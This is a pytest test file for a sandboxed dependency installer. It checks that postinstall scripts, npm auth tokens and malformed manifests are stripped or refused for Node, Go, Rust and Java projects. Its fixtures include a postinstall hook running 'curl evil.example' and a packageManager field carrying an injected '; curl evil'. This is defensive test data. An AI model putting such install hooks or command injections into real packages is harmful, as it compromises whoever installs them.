"""What is installed for projects that are not Python: from manifests and lock files alone, keyed by what they hold."""

import json
import subprocess
from pathlib import Path

import pytest

from repowright_tools.errors import InstallFailed
from repowright_tools.git.tree import TreeFile
from repowright_tools.run_tests_sandboxed.languages import FOLDER, find_language, language_spec
from repowright_tools.run_tests_sandboxed.node_modules import place_links, with_packages_of

SCRIPTS = {"postinstall": "curl evil.example"}
PACKAGE = json.dumps({"name": "a", "scripts": SCRIPTS, "dependencies": {"b": "1"}}).encode()
CODE = {"index.js": b"code", "src/main.rs": b"code", "main.go": b"code", "src/main/java/A.java": b"code"}


@pytest.mark.parametrize(
    ("files", "tool", "held"),
    [
        ({"package.json": PACKAGE, "package-lock.json": b"{}"}, "npm ci", ["package-lock.json", "package.json"]),
        (
            {"package.json": PACKAGE, "pnpm-lock.yaml": b"", "packages/x/package.json": PACKAGE},
            "pnpm install --frozen-lockfile",
            ["package.json", "packages/x/package.json", "pnpm-lock.yaml"],
        ),
        ({"package.json": PACKAGE, "yarn.lock": b""}, "yarn install", ["package.json", "yarn.lock"]),
        ({"go.mod": b"module a", "go.sum": b"x"}, "go mod download", ["go.mod", "go.sum"]),
        (
            {"Cargo.toml": b"[package]", "Cargo.lock": b""},
            "cargo fetch --locked",
            ["Cargo.lock", "Cargo.toml", "src/lib.rs", "src/main.rs"],
        ),
        ({"pom.xml": b"<project/>"}, "dependency:go-offline", ["pom.xml", "src/test/java/StubTest.java"]),
        (
            {"build.gradle": b"", "gradle.lockfile": b""},
            "gradle",
            ["build.gradle", "gradle.lockfile", "src/test/java/StubTest.java"],
        ),
        ({"build.gradle.kts": b""}, "gradle", ["build.gradle.kts", "src/test/java/StubTest.java"]),
        ({"package.json": PACKAGE}, "npm install --no-package-lock", ["package.json"]),
        (
            {"Cargo.toml": b'[[bench]]\nname = "fast"\n[[test]]\npath = "t/a.rs"\n[[bin]]\npath = "../../x.rs"\n'},
            "cargo fetch",
            ["Cargo.toml", "benches/fast.rs", "src/lib.rs", "src/main.rs", "t/a.rs"],
        ),
    ],
)
def test_an_installation_sees_manifests_and_nothing_else(files: dict[str, bytes], tool: str, held: list[str]) -> None:
    spec = language_spec({**CODE, "node_modules/b/package.json": b"{}", **files})
    assert spec is not None
    assert sorted(spec.files) == held
    assert b"code" not in spec.files.values()
    assert tool in spec.commands[0][-1]
    assert list(spec.writes) == [FOLDER]


def test_a_projects_own_scripts_do_not_run_in_the_installation() -> None:
    spec = language_spec({"package.json": PACKAGE, "package-lock.json": b"{}"})
    assert spec is not None
    assert json.loads(spec.files["package.json"]) == {"name": "a", "dependencies": {"b": "1"}}


def test_credentials_of_a_package_manager_are_not_taken_along() -> None:
    files = {"package.json": PACKAGE, "package-lock.json": b"{}", ".npmrc": b"//x/:_authToken=canary"}
    spec = language_spec(files)
    assert spec is not None
    assert ".npmrc" not in spec.files


def test_the_environment_is_another_one_for_another_lock_file_base_or_installer_and_the_same_for_other_code() -> None:
    files = {"package.json": PACKAGE, "package-lock.json": b"{}"}
    one, same = language_spec(files), language_spec({**files, **CODE})
    other, tool = language_spec({**files, "package-lock.json": b"{ }"}), language_spec({**files, "yarn.lock": b""})
    assert one is not None
    assert same is not None
    assert other is not None
    assert tool is not None
    assert one.key("base") == same.key("base")
    assert len({one.key("base"), one.key("base2"), other.key("base"), tool.key("base")}) == 4


def test_a_project_that_needs_nothing_has_nothing_to_install() -> None:
    assert language_spec({"package.json": b'{"name": "a"}'}) is None
    assert language_spec({"go.mod": b"module a"}) is None
    assert language_spec({"go.mod": b"module a", "go.sum": b"x", "vendor/modules.txt": b""}) is None
    assert find_language({"README.md": b""}) is None


def test_settings_of_npm_that_say_what_is_installed_are_taken_along_and_nothing_beside_them() -> None:
    settings = b"registry=https://u:p@x.example\nlegacy-peer-deps=true\n//x/:_authToken=canary\nhoist=${SECRET}\n"
    spec = language_spec({"package.json": PACKAGE, "package-lock.json": b"{}", ".npmrc": settings})
    assert spec is not None
    assert spec.files[".npmrc"] == b"legacy-peer-deps=true\n"


@pytest.mark.parametrize(
    ("files", "package"),
    [
        ({"pnpm-lock.yaml": b"lockfileVersion: '6.0'\n", "package.json": b"{}"}, "pnpm@8"),
        ({"pnpm-lock.yaml": b"lockfileVersion: '9.0'\n", "package.json": b"{}"}, "pnpm@9"),
        ({"pnpm-lock.yaml": b"", "package.json": b'{"packageManager": "pnpm@9.1.2+sha512.a0"}'}, "pnpm@9.1.2"),
        ({"pnpm-lock.yaml": b"", "package.json": b'{"packageManager": "pnpm@9; curl evil"}'}, "pnpm@9"),
        ({"yarn.lock": b"", "package.json": b'{"packageManager": "pnpm@9.1.2"}'}, "yarn@1.22.22"),
        ({"yarn.lock": b"", "package.json": b'{"packageManager": "yarn@1.22.19"}'}, "yarn@1.22.19"),
        ({"yarn.lock": b"", "package.json": b'{"packageManager": "yarn@4.5.0"}'}, "@yarnpkg/cli-dist@4.5.0"),
        ({"yarn.lock": b"#\n\n__metadata:\n  version: 8\n", "package.json": b"{}"}, "@yarnpkg/cli-dist@4"),
        ({"yarn.lock": b"__metadata:\n  version: 6\n", "package.json": b"{}"}, "@yarnpkg/cli-dist@3"),
    ],
)
def test_a_package_manager_is_of_the_version_that_the_project_or_its_lock_file_asks_for(
    files: dict[str, bytes], package: str
) -> None:
    spec = language_spec(files)
    assert spec is not None
    assert f" --package={package} -- " in spec.commands[0][-1]
    assert b"packageManager" not in spec.files["package.json"]


def test_tests_of_go_and_rust_write_where_there_is_room_and_ask_no_network() -> None:
    go, rust = find_language(["go.mod"]), find_language(["Cargo.lock"])
    assert go is not None
    assert rust is not None
    assert go.variables["GOPROXY"] == "off"
    assert go.variables["GOCACHE"].startswith("/work/")
    assert rust.variables["CARGO_NET_OFFLINE"] == "true"


SPOILT = [
    b"[",
    b"[]",
    b'{"a": %s1, "scripts": {"postinstall": "x"}}' % (b"9" * 5_000),
    b'{"a": 1e999, "scripts": {"postinstall": "x"}}',
    b'{"a": %s%s, "scripts": {"postinstall": "x"}}' % (b"[" * 100_000, b"]" * 100_000),
    b'{"scripts": {"postinstall": "x"}}' + b" " * 9 * 1024 * 1024,
]


@pytest.mark.parametrize("manifest", SPOILT, ids=["broken", "list", "long number", "infinite", "deep", "large"])
def test_a_package_json_that_cannot_be_read_is_refused_and_below_the_root_left_out(manifest: bytes) -> None:
    with pytest.raises(InstallFailed, match=r"^package\.json cannot be read"):
        language_spec({"package.json": manifest, "package-lock.json": b"{}"})
    spec = language_spec({"package.json": PACKAGE, "package-lock.json": b"{}", "tests/bad/package.json": manifest})
    assert spec is not None
    assert sorted(spec.files) == ["package-lock.json", "package.json"]


@pytest.mark.parametrize(
    "manifest",
    [
        b'{"description": "\xff", "scripts": {"postinstall": "x"}, "dependencies": {"b": "1"}}',
        b'\xef\xbb\xbf{"scripts": {"postinstall": "x"}, "dependencies": {"b": "1"}}',
        b'{"scripts": {}, "scripts": {"postinstall": "x"}, "dependencies": {"b": "1"}}',
        b'{"__proto__": {"scripts": {"postinstall": "x"}}, "dependencies": {"b": "1"}}',
        b'{"\\u0073cripts": {"postinstall": "x"}, "dependencies": {"b": "1"}}',
    ],
    ids=["no UTF-8", "byte order mark", "twice", "inherited", "escaped"],
)
def test_scripts_are_taken_out_however_a_package_json_is_written(manifest: bytes) -> None:
    for files in ({"package.json": manifest}, {"package.json": PACKAGE, "packages/x/package.json": manifest}):
        spec = language_spec({"package-lock.json": b"{}", **files})
        assert spec is not None
        assert not any(b"postinstall" in data for data in spec.files.values())
        assert json.loads(spec.files[[*files][-1]])["dependencies"] == {"b": "1"}


def test_the_root_of_a_project_of_many_packages_is_installed_with_all_of_them_up_to_a_named_bound() -> None:
    files = {"package.json": PACKAGE, "pnpm-lock.yaml": b"", **{f"apps/{n}/package.json": PACKAGE for n in range(250)}}
    spec = language_spec(files)
    assert spec is not None
    assert spec.files.keys() == files.keys()
    with pytest.raises(InstallFailed, match="manifests"):
        language_spec({**files, **{f"more/{n}/package.json": PACKAGE for n in range(5_000)}})


@pytest.mark.parametrize(
    "path",
    [".", "./", "Cargo.toml", "a/../Cargo.toml/.", "src", "src/lib.rs/x.rs", "a\\u0000b", "a" * 300, "a/" * 300 + "b"],
)
def test_a_cargo_target_that_cannot_be_a_file_is_refused_by_name(path: str) -> None:
    manifest = f'[[bin]]\nname = "x"\npath = "{path}"\n'.encode()
    with pytest.raises(InstallFailed):
        language_spec({"Cargo.toml": manifest.replace(b"a/../", b"")})


def test_cargo_targets_are_bounded() -> None:
    targets = "".join(f'[[bin]]\nname = "x{number}"\n' for number in range(600))
    with pytest.raises(InstallFailed, match=r"Cargo\.toml names too many targets"):
        language_spec({"Cargo.toml": targets.encode()})


def test_what_links_packages_into_a_tree_says_nothing_where_none_were_installed(tmp_path: Path) -> None:
    done = subprocess.run(["sh", "-c", place_links(str(tmp_path))], capture_output=True, check=True, cwd=tmp_path)
    assert done.stderr == b""


def test_packages_that_a_change_brings_are_in_no_tree_and_those_of_the_base_stay() -> None:
    def tree(**held: str) -> list[TreeFile]:
        return [TreeFile(path.replace("__", "/"), 0o100755, text.encode()) for path, text in held.items()]

    base = tree(a="old", node_modules__b="old", x__node_modules__c="old", y__node_modules__d="old")
    change = tree(a="new", node_modules="link", node_modules__b="new", z__node_modules___bin__node="new", y="file")
    assert {file.path: file.data for file in with_packages_of(base, change)} == {
        "a": b"new",
        "y": b"file",
        "node_modules/b": b"old",
        "x/node_modules/c": b"old",
    }
